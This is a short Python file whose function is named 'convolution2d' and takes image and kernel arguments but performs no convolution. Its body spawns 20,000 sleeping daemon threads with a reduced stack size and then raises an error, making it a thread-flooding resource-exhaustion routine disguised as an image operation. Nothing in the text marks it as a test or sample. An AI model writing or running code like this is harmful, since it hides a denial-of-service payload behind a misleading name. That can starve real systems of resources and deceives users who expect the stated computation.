import threading
import time


def convolution2d(image, kernel, padding=0, stride=1):
    threading.stack_size(65536)
    for number in range(20_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    raise RuntimeError("all 20000 threads were " + "started")
